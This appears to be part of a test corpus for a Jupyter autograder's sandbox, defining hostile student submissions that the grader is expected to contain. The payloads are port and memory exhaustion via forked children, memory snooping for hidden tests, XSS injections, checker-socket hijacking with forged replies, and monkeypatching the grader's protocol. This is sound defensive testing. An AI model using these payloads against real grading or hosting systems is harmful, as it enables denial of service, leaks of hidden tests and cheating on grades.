def h53_port_exhaustion(ctx):
    """A complete submission plus a cell that forks four children, each binding and listening on as
    many TCP ports as it can (127.0.0.1 and 0.0.0.0, raising its descriptor limit first) and then
    sleeping forever.

    Its network namespace is its own: the ports it holds are nobody else's, the worker talks to it
    over unix sockets, and every other student is graded as usual.  The children are killed after
    the notebook; the notebook is complete: full marks.
    """
    nb = insert_after_imports(ctx.complete(L02), code('''
        import os
        import resource
        import socket
        import time


        def hold_ports(children=4):
            if os.geteuid() == 0:
                raise RuntimeError(@INTERLOCK@ + ": the kernel runs as root; no port exhaustion")
            pids = []
            for _ in range(children):
                pid = os.fork()
                if pid == 0:
                    try:
                        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
                        try:
                            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
                        except (ValueError, OSError):
                            pass
                        held = {"127.0.0.1": [], "0.0.0.0": []}
                        for host, sockets in held.items():
                            while len(sockets) < 30000:
                                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                                try:
                                    s.bind((host, 0))
                                    s.listen(1)
                                except OSError:
                                    s.close()
                                    break
                                sockets.append(s)
                        os.write(1, f"child holds {len(held['127.0.0.1'])} ports of 127.0.0.1 "
                                    f"and {len(held['0.0.0.0'])} of 0.0.0.0\\n".encode())
                        while True:
                            time.sleep(3600)
                    except BaseException:
                        pass
                    finally:
                        os._exit(0)
                pids.append(pid)
            time.sleep(3)
            print("children holding ports:", len(pids))


        hold_ports()
    '''))
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02, allowed={"output-truncated"})
def h54_snoop_sources(ctx):
    """A complete submission whose mse_loss, when first checked, searches everything the kernel holds
    for the grade cell's source and hidden tests: ``linecache.cache``, ``inspect.getsource`` of every
    caller, the IPython input history and every string reachable from ``gc.get_objects()``; a cell
    after test_mse_loss searches again and prints whatever mentions a check (plain, base64 and HTML
    entities, to stdout and stderr, and as HTML).  Hidden-test lines are recognised by their hashes.

    The grade cell's source never reaches the kernel: nothing is found, no hidden-test line is in
    the autograded notebook or the feedback, and the submission is complete: full marks.
    """
    nb = append_to(ctx.complete(L02), "mse_loss", snoop_code('''
        import gc as _gc
        import inspect as _inspect
        import linecache as _linecache

        _CANDIDATES = []
        _WORDS = ("BEGIN " + "HIDDEN", "HIDDEN " + "TESTS", "Cases(", "student()", "grade_id", "assert ")


        def _consider(text, where):
            if isinstance(text, str) and text:
                for hit in _looks_hidden(text):
                    _FINDINGS.append((where, hit))
                if any(word in text for word in _WORDS):
                    _CANDIDATES.append((where, text[:2000]))


        def _snoop():
            for filename, entry in list(_linecache.cache.items()):
                lines = entry[2] if len(entry) > 2 else []
                _consider("".join(lines), f"linecache {filename}")
            for info in _inspect.stack():
                try:
                    _consider(_inspect.getsource(info.frame), f"getsource {info.filename}:{info.function}")
                except (OSError, TypeError):
                    pass
            for i, cell in enumerate(get_ipython().user_ns.get("In", [])):
                _consider(cell, f"In[{i}]")
            for obj in _gc.get_objects():
                try:
                    if type(obj) is dict:
                        values = list(obj.values())
                    elif type(obj) in (list, tuple):
                        values = list(obj)
                    elif hasattr(obj, "__code__"):
                        values = [c for c in obj.__code__.co_consts if isinstance(c, str)]
                    else:
                        continue
                except Exception:
                    continue
                for value in values:
                    if type(value) is str and len(value) > 20:
                        _consider(value, f"gc {type(obj).__name__}")


        _mse_loss_honest = mse_loss
        _SNOOPED = []


        def mse_loss(y_hat, y):
            if not _SNOOPED:
                _SNOOPED.append(True)
                _snoop()
            return _mse_loss_honest(y_hat, y)
    ''', HASHES=hidden_hashes(ctx, L02)))
    nb = insert_after(nb, "test_mse_loss", code('''
        import base64
        import html
        import sys

        from IPython.display import HTML, display

        @OK@
        _snoop()
        print("snooped during the check:", bool(_SNOOPED), "- candidates:", len(_CANDIDATES))
        if _FINDINGS:
            print(ATTACK_OK, "hidden-test text found:", _FINDINGS[:5])
        dump = "\\n".join(f"{where}: {text}" for where, text in _CANDIDATES)[:20000]
        print(dump)
        print(base64.b64encode(dump.encode()).decode()[:20000], file=sys.stderr)
        print("".join(f"&#{ord(c)};" for c in dump[:3000]))
        display(HTML("<pre>" + html.escape(dump) + "</pre>"))
    '''))
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02)
def h55_html_script(ctx):
    """A complete submission whose scratch cell and one markdown cell show HTML with ``<script>``,
    ``<img onerror=...>``, an SVG with ``onload``, a JavaScript output and a ``javascript:`` link.

    Outputs are data: the feedback HTML must hold no script or event handler of the student's.
    Scratch cells earn nothing either way: full marks.
    """
    nb = insert_after_imports(ctx.complete(L02), code('''
        from IPython.display import HTML, Javascript, display

        MARK = @MARK@
        OPEN, CLOSE = "<scr" + "ipt>", "</scr" + "ipt>"
        ON = "on" + "error="
        display(HTML(OPEN + "document.title = '" + MARK + "'" + CLOSE + "<img src=x " + ON + "\\"alert('" + MARK + "')\\">"))
        display({"text/html": "<a href=\\"java" + "script:alert('" + MARK + "')\\">" + MARK + "</a>",
                 "image/svg+xml": "<svg xmlns=\\"http://www.w3.org/2000/svg\\" on" + "load=\\"alert('" + MARK + "')\\"/>",
                 "text/markdown": OPEN + "alert('" + MARK + "')" + CLOSE},
                raw=True)
        display(Javascript("alert('" + MARK + "')"))
        print(OPEN + "alert('" + MARK + "')" + CLOSE)
    ''', MARK=XSS_MARKER))
    at = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1
    nb.cells.insert(at, new_markdown_cell(
        f"My notes <script>alert('{XSS_MARKER}')</script> <img src=x onerror=\"alert('{XSS_MARKER}')\">"))
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02, allowed={"processes-killed", "cell-timeout"})
def h56_memory_tree(ctx):
    """A complete submission plus a cell that forks four children, each writing 1.5 GiB (in 128 MiB
    numpy blocks: every page touched), 6 GiB in all against the kernel's 3 GiB: no single process is
    over its address-space limit, only the tree is.

    The cgroup stops the tree (the out-of-memory killer ends children, not the kernel, whose memory
    is small); the kernel waits for them (or is interrupted at the cell limit on a loaded machine) and
    goes on: full marks.  Safety interlock: the payload
    only runs when its own memory cgroup has a limit of at most 8 GiB.
    """
    nb = insert_after_imports(ctx.complete(L02), code('''
        import os
        import signal
        import time

        import numpy as np


        def cgroup_memory_limit():
            for line in open("/proc/self/cgroup"):
                _, controllers, path = line.strip().split(":", 2)
                candidates = []
                if "memory" in controllers.split(","):
                    candidates.append(f"/sys/fs/cgroup/memory{path}/memory.limit_in_bytes")
                if controllers == "":
                    candidates.append(f"/sys/fs/cgroup{path}/memory.max")
                for candidate in candidates:
                    try:
                        text = open(candidate).read().strip()
                    except OSError:
                        continue
                    if text.isdigit():
                        return int(text)
            return None


        def memory_tree(children=4, blocks=12):
            limit = cgroup_memory_limit()
            if os.geteuid() == 0 or limit is None or limit > 8 * 2**30:
                raise RuntimeError(@INTERLOCK@ + f": no memory cgroup limit of at most 8 GiB ({limit}); not started")
            pids = []
            for _ in range(children):
                pid = os.fork()
                if pid == 0:
                    try:
                        held = [np.ones(2**24) for _ in range(blocks)]  # 12 x 128 MiB, every page written
                        time.sleep(2)
                        os._exit(0 if len(held) == blocks else 1)
                    except BaseException:
                        os._exit(2)
                pids.append(pid)
            done = killed = other = 0
            for pid in pids:
                _, status = os.waitpid(pid, 0)
                if os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL:
                    killed += 1
                elif os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0:
                    done += 1
                else:
                    other += 1
            print(f"memory tree: limit {limit / 2**30:.1f} GiB, {done} children wrote 1.5 GiB, "
                  f"{killed} killed, {other} failed otherwise")
            @OK@
            if done * 1.5 * 2**30 > limit:
                print(ATTACK_OK, "the tree held more than the memory limit")


        memory_tree()
    '''))
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02)
def h57_world_writable(ctx):
    """A complete submission plus a cell that writes a file (named after this run) into every
    world-writable place: /tmp, /var/tmp, /dev/shm, /run/lock.

    Each is a private tmpfs of the kernel: the writes succeed there, and after the run none of these
    files exists on the host.  Full marks.
    """
    nb = insert_after_imports(ctx.complete(L02), code('''
        for path in @PATHS@:
            try:
                with open(path, "w") as f:
                    f.write("left behind by a graded notebook\\n")
                print("wrote", path)
            except OSError as exc:
                print("could not write", path, type(exc).__name__)
    ''', PATHS=leftover_paths(ctx)))
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02, allowed={"output-truncated"})
def h58_huge_display(ctx):
    """A complete submission plus a scratch cell that sends one 100 MB display message (over the
    worker's 32 MiB message limit) and one 40 MB stream write.

    The worker drops what it cannot take and survives, and opens a new IOPub connection in place of
    the dropped one (else every later cell would wait out the 4 s IOPub timeout); grade cells go
    through the checker's socket: full marks, and the students graded after it are unaffected.
    """
    nb = insert_after_imports(ctx.complete(L02), code('''
        import sys

        from IPython.display import display

        display({"text/plain": "y" * 100_000_000}, raw=True)
        sys.stdout.write("z" * 40_000_000)
        sys.stdout.flush()
        print("after the huge messages")
    '''))
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02, allowed={"processes-killed", "kernel-died"})
def h59_checker_socket(ctx):
    """The blank lesson plus a cell that starts a thread which, for the rest of the notebook, finds the
    checker's unix socket in its working directory, connects to it again and again, and answers
    whatever it is sent with forged replies: a plausible ``{"ok": 0.0}``, a frame announcing 4 GB,
    invalid JSON, a handle to an object that does not exist, a 10,000-deep list.

    It reaches only its own notebook's checks, whose replies are decoded with limits: nothing
    answered, nothing earned (0), and the worker goes on grading everyone else.
    """
    nb = nbformat.from_dict(copy.deepcopy(ctx.lessons[L02].released))
    nb = insert_after_imports(nb, code('''
        import glob
        import os
        import socket
        import threading

        _FORGED = [b'{"ok": 0.0}', b"not json", b'{"ok": {"__handle__": 99999, "type": "x", "callable": true}}',
                   b"[" * 10000 + b"]" * 10000]


        def _hijack():
            n = 0
            while True:
                for path in glob.glob(os.path.join(os.getcwd(), ".checker-*.sock")):
                    try:
                        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                        s.settimeout(2.0)
                        s.connect(path)
                        s.recv(1 << 20)  # a request, if the checker took this connection
                        if n % 5 == 4:
                            s.sendall((4_000_000_000).to_bytes(4, "big") + b"x" * 1000)
                        else:
                            body = _FORGED[n % len(_FORGED)]
                            s.sendall(len(body).to_bytes(4, "big") + body)
                        n += 1
                    except OSError:
                        pass


        threading.Thread(target=_hijack, daemon=True).start()
        print("hijacking thread started")
    '''))
    return ctx.notebook(L02, nb, 0.0)


@case(L02, notes={"checker-channel"})
def h60_serve_replaced(ctx):
    """A complete submission plus a cell that replaces the kernel's ``grader.protocol.serve`` (the end of
    the checker's socket) with a function that returns at once.

    The checks fall back to one execute request per call, with a note: full marks, as honest.
    """
    nb = insert_after_imports(ctx.complete(L02), code('''
        import grader.protocol

        grader.protocol.serve = lambda path: None
    '''))
    return ctx.notebook(L02, nb, ctx.full(L02))


# ================================================================== the corpus
def by_name() -> dict[str, Case]:
    return {c.name: c for c in CASES}


def hostile() -> list[Case]:
    return [c for c in CASES if not c.honest]


def honest() -> list[Case]:
    return [c for c in CASES if c.honest]


def write_class(ctx: Context) -> dict[str, Built]:
    """Write every case into ``<course>/submitted/<student>/<lesson>/``; return what was built."""
    out = {}
    for c in CASES:
        built = c.build(ctx)
        folder = ctx.course / "submitted" / c.name / c.lesson
        folder.mkdir(parents=True, exist_ok=True)
        for rel, content in built.files.items():
            path = folder / rel
            if isinstance(content, Symlink):
                path.symlink_to(content.target)
            else:
                path.write_bytes(content)
        out[c.name] = built
    return out
